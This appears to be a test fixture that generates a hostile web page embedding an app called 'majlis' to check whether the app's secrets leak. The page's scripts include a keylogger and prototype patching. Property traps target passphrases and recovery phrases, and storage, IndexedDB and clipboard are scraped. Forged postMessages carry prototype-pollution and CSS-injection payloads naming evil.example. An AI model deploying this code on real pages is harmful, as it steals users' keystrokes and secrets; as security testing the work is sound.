// A page that has the app on it and wants what is written there. Its scripts run before and after the app's own script
// tag. They gather in `loot` whatever any listener, patched function, store, channel or window gives out; `grab` tries
// every way that must be tried again while the app is in use.
const kBefore = String.raw`
const take = (() => {
  const {push} = Array.prototype, {stringify} = JSON, {apply} = Reflect, {slice} = String.prototype;
  window.loot = [];
  return (from, value) => {
    let text;
    try {
      text = typeof value === 'string' ? value : value instanceof Uint8Array ? new TextDecoder().decode(value) : stringify(value);
    } catch (reason) {
      text = '(' + reason.name + ')';
    }
    apply(push, window.loot, [from + ' = ' + (typeof text === 'string' ? apply(slice, text, [0, 100_000]) : text)]);
  };
})();
let waiting = [];
const attempt = (from, look) => {
  try {
    const got = look();
    if (got instanceof Promise) waiting.push(got.then((value) => take(from, value), (reason) => take(from, '(' + reason.name + ')')));
    else take(from, got);
  } catch (reason) {
    take(from, '(' + reason.name + ')');
  }
};

// What is typed, dragged, selected, focused, told or refused anywhere that events of this window reach.
let typed = '';
const listen = (target, from) => {
  for (const type of ['keydown', 'keyup', 'keypress', 'beforeinput', 'input', 'compositionend', 'change', 'copy', 'cut', 'paste', 'drag', 'dragover', 'drop',
    'focusin', 'focusout', 'pointerdown', 'click', 'submit', 'selectionchange', 'message', 'messageerror', 'storage', 'securitypolicyviolation', 'error', 'hashchange', 'popstate']) {
    target.addEventListener(type, (event) => {
      if (type === 'keydown' && event.key.length === 1) window.typed = typed += event.key;
      const data = type === 'message' ? event.data : event.key ?? event.data ?? event.target?.value ?? event.newValue ?? event.dataTransfer?.getData('text');
      if (data !== undefined && data !== null) take(from + ' ' + type, data);
    }, true);
  }
};
listen(window, 'window');

// Functions that a script of the app's might call with something worth knowing.
const tap = (owner, name, of) => {
  const real = owner[name];
  owner[name] = function (...all) {
    for (const each of all) if (typeof each === 'string' || each instanceof Uint8Array) take(of + '.' + name, each);
    if (name === 'createElement' && String(all[0]).toLowerCase() === 'iframe') return window.stolen = Reflect.apply(real, this, all);
    if (name === 'attachShadow') return Reflect.apply(real, this, [{mode: 'open'}]);
    return Reflect.apply(real, this, all);
  };
};
const tapAll = () => {
  for (const [owner, of, names] of [
    [Array.prototype, 'Array', ['push', 'map', 'join', 'flatMap']], [Promise.prototype, 'Promise', ['then']], [String.prototype, 'String', ['replace', 'split', 'normalize']],
    [MessagePort.prototype, 'MessagePort', ['postMessage']], [Worker.prototype, 'Worker', ['postMessage']], [window, 'window', ['postMessage', 'fetch']],
    [Element.prototype, 'Element', ['attachShadow', 'setAttribute', 'append']], [Node.prototype, 'Node', ['appendChild', 'insertBefore']], [Document.prototype, 'Document', ['createElement']],
    [EventTarget.prototype, 'EventTarget', ['addEventListener', 'dispatchEvent']], [TextEncoder.prototype, 'TextEncoder', ['encode']], [SubtleCrypto.prototype, 'SubtleCrypto', ['encrypt', 'importKey']],
    [IDBObjectStore.prototype, 'IDBObjectStore', ['put', 'get']], [BroadcastChannel.prototype, 'BroadcastChannel', ['postMessage']], [Storage.prototype, 'Storage', ['setItem']], [WebSocket.prototype, 'WebSocket', ['send']],
  ]) for (const name of names) tap(owner, name, of);
};
tapAll();
for (const name of ['passphrase', 'phrase', 'secret', 'recoveryPhrase', 'text', 'plaintext'])
  Object.defineProperty(Object.prototype, name, {configurable: true, set(value) {
    take('Object.' + name, value);
    Object.defineProperty(this, name, {value, writable: true, enumerable: true, configurable: true});
  }});
`;

const kAfter = String.raw`
tapAll();
const kApp = new URL(document.querySelector('script[src$="/embed.js"]').src).origin;
for (const name of ['majlis profile', 'majlis', '']) new BroadcastChannel(name).onmessage = ({data}) => take('BroadcastChannel ' + name, data);

const kPatienceMs = 1_000; // some ways are never answered

// All that a document shows, through its shadow roots.
const textOf = (node) => {
  let text = node.nodeType === 3 ? node.data + ' ' : (node.value ?? '') + ' ';
  for (const each of [...(node.shadowRoot ? [node.shadowRoot] : []), ...node.childNodes ?? []]) text += textOf(each);
  return text;
};
const bytes = (value) => value instanceof Uint8Array ? Array.from(value).join() : value && typeof value === 'object' ? Object.values(value).map(bytes).join(' ; ') : String(value);
const everything = (database) => Promise.all([...database.objectStoreNames].map((store) => new Promise((resolve) => {
  const request = database.transaction(store).objectStore(store).getAll();
  request.onsuccess = () => resolve(request.result.map(bytes).join(' | '));
})));
const databases = (factory) => factory.databases().then((all) => Promise.all(all.map(({name}) => new Promise((resolve) => {
  const request = factory.open(name);
  request.onsuccess = () => everything(request.result).then((found) => {
    request.result.close();
    resolve(found);
  });
  request.onerror = () => resolve(name);
}))));
const entered = new WeakSet();

window.grab = () => {
  const frames = [window.stolen, ...document.querySelectorAll('iframe'), document.querySelector('majlis-app')?.shadowRoot?.querySelector('iframe')].filter(Boolean);
  for (const target of [...frames.map((each) => each.contentWindow), ...Array.from({length: window.length}, (_, i) => window[i])]) {
    attempt('text', () => textOf(target.document));
    attempt('address', () => target.location.href);
    attempt('title', () => target.document.title);
    attempt('databases', () => databases(target.indexedDB));
    for (const store of ['localStorage', 'sessionStorage']) attempt(store, () => ({...target[store]}));
    attempt('caches', () => target.caches.keys());
    attempt('names', () => Object.keys(target));
    attempt('eval', () => target.eval('document.body.textContent'));
    attempt('name', () => target.name);
    attempt('element', () => target.frameElement?.outerHTML);
    attempt('listen', () => {
      target.document;
      if (entered.has(target)) return;
      entered.add(target);
      listen(target, 'inside');
    });
    attempt('opener', () => target.opener?.document.body.textContent);
  }
  for (const frame of frames) {
    attempt('contentDocument', () => frame.contentDocument?.body.textContent);
    frame.dispatchEvent(new KeyboardEvent('keydown', {key: 'Enter', bubbles: true, composed: true}));
  }
  attempt('own databases', () => databases(indexedDB));
  attempt('own localStorage', () => ({...localStorage}));
  attempt('own caches', () => caches.keys());
  attempt('locks', () => navigator.locks.query());
  attempt('page of the host', () => fetch(kApp + '/', {credentials: 'include'}).then((answer) => answer.text()));
  attempt('opaque page of the host', () => fetch(kApp + '/', {mode: 'no-cors', credentials: 'include'}).then((answer) => answer.text()));
  attempt('shared worker', () => new SharedWorker(kApp + '/service-worker.js') && 'started');
  attempt('worker', () => new Worker(kApp + '/service-worker.js') && 'started');
  attempt('service worker', () => navigator.serviceWorker.register(kApp + '/service-worker.js').then(() => 'registered'));
  attempt('module', () => import(kApp + '/service-worker.js').then(() => 'imported'));
  attempt('selection', () => {
    document.execCommand('selectAll');
    return getSelection().toString();
  });
  attempt('clipboard', () => navigator.clipboard?.readText());
  attempt('timings', () => performance.getEntries().map(({name}) => name));
  const all = waiting;
  waiting = [];
  return Promise.race([Promise.all(all), new Promise((resolve) => setTimeout(resolve, kPatienceMs))]);
};

// Messages as the app's own parts might send them, with what does harm where they are believed.
window.forge = () => {
  const target = window.stolen.contentWindow;
  const poison = JSON.parse('{"majlis": "theme", "__proto__": {"polluted": "yes"}, "constructor": {"prototype": {"polluted": "yes"}}}');
  const css = ['red; background: url(https://evil.example/)', '#000000}*{display:none', 'url(javascript:1)', '#fff', ['#000000'], {toString: () => '#000000'}.x];
  const all = [
    ...css.map((accent) => ({majlis: 'theme', accent, theme: '<b>', language: '../../evil'})), poison, {majlis: 'theme', theme: {}, accent: 'x'.repeat(8e6)}, 'x'.repeat(8e6), null, 7, [], new Map(),
    ...['export', 'forget', 'takeOver', 'devices', 'confirmRecoveryPhrase'].map((method, id) => ({id, method, args: []})),
    {stage: {at: 'damaged', failure: {name: 'x', detail: 'x'}}, changes: [{kind: 'stage'}]}, {majlis: 'invite', invite: 'x'}, {majlis: 'open', conversation: 'x'},
  ];
  for (const each of all) target.postMessage(each, '*');
  const {port1, port2} = new MessageChannel();
  port1.onmessage = ({data}) => take('port', data);
  target.postMessage({majlis: 'theme'}, '*', [port2]);
  // And what the app might say to this page, which no one here should believe.
  for (const data of [{majlis: 'ready'}, {majlis: 'resize', height: 1}, {majlis: 'navigate', url: 'https://evil.example/'}])
    window.dispatchEvent(new MessageEvent('message', {data, origin: kApp, source: target}));
};

// Another frame of this page says what only this page may.
window.forgeFromSibling = (message) => new Promise((resolve) => {
  const sibling = document.createElement('iframe');
  const [app] = [window.app];
  sibling.onload = () => {
    sibling.contentWindow.eval('(app, message) => app.postMessage(message, "*")')(app, message);
    resolve();
  };
  sibling.src = '/empty';
  document.body.append(sibling);
});
window.app = window.stolen.contentWindow;
`;

/** `app` is where the script tag points to. */
export function hostilePage(app: string, attributes = 'theme="dark" accent="#5fd0bb"'): string {
  return `<!doctype html><html lang="en"><title>Figs</title><script>${kBefore}</script>
<script src="${app}/embed.js"></script>
<majlis-app ${attributes} style="inline-size: 420px; block-size: 640px"></majlis-app>
<p><input id="trap" aria-label="trap"></p>
<script>${kAfter}</script></html>`;
}
